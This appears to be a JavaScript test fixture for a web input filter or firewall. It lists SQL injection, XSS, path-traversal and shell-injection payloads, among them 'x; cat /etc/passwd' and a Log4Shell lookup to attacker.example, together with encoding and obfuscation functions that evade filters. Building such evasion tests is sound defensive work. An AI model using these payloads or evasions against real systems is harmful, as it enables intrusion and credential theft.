// The evasion contract (docs/evasion.md): the same attacks through the encodings and placements
// real attackers use. Every case here must be blocked at level Standard; a new evasion that gets
// through is added here first, then fixed.

/** Attack payloads, one per class, as the backend would finally read them. */
export const PAYLOADS = {
  sqli: "1' UNION SELECT username, password FROM users-- -",
  sqli_bool: "1' OR '1'='1",
  xss: "<script>alert(document.cookie)</script>",
  xss_handler: "<img src=x onerror=alert(1)>",
  traversal: "../../../../etc/passwd",
  shell: "x; cat /etc/passwd",
  log4shell: "${jndi:ldap://attacker.example/a}",
};

const hex = (c) => "%" + c.charCodeAt(0).toString(16).toUpperCase().padStart(2, "0");
const encodeAll = (s) => [...Buffer.from(s, "utf8")].map((b) => "%" + b.toString(16).toUpperCase().padStart(2, "0")).join("");

/**
 * Encodings of a payload for a query or form value (the wire form). Each returns the text to
 * put after `name=`; the backend decodes it once (form decoding), so "double" means the
 * attacker relies on a second decoding step behind us.
 */
export const WIRE_ENCODINGS = {
  plain_percent: (s) => encodeURIComponent(s),
  every_byte: (s) => encodeAll(s),
  double_percent: (s) => encodeURIComponent(s).replace(/%/g, "%25"),
  percent_u: (s) => [...s].map((c) => (/[A-Za-z0-9]/.test(c) ? c : "%u00" + c.charCodeAt(0).toString(16).toUpperCase().padStart(2, "0"))).join(""),
  plus_spaces: (s) => encodeURIComponent(s).replace(/%20/g, "+"),
  mixed_case_hex: (s) => encodeAll(s).replace(/%([0-9A-F])([0-9A-F])/g, (m, a, b) => "%" + a + b.toLowerCase()),
};

/** Rewrites of the payload text itself that keep its meaning for the target interpreter. */
export const TEXT_VARIANTS = {
  sqli: {
    case_mix: (s) => s.replace(/UNION/, "UnIoN").replace(/SELECT/, "sElEcT").replace(/FROM/, "FrOm"),
    inline_comments: (s) => s.replace("UNION SELECT", "UNION/**/SELECT").replace(" FROM ", "/**/FROM/**/"),
    tabs_newlines: (s) => s.replace(/ /g, "\t").replace("\tFROM", "\nFROM"),
  },
  xss: {
    case_mix: (s) => s.replace("script>", "ScRiPt>").replace("</script>", "</sCrIpT>"),
    // Browsers decode character references inside attribute values before running them.
    entity_in_handler: () => "<img src=x onerror=&#97;&#108;ert(1)>",
    hex_entity_in_url: () => "<a href=\"jav&#x61;script:alert(1)\">x</a>",
  },
  traversal: {
    backslashes: (s) => s.replace(/\//g, "\\"),
    dot_encoded: (s) => s.replace(/\.\./g, "%2e%2e"),
  },
};

/** Overlong UTF-8 forms of '/' and '.', as raw percent escapes (never valid UTF-8). */
export const OVERLONG_TRAVERSAL = "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd";

export { hex };
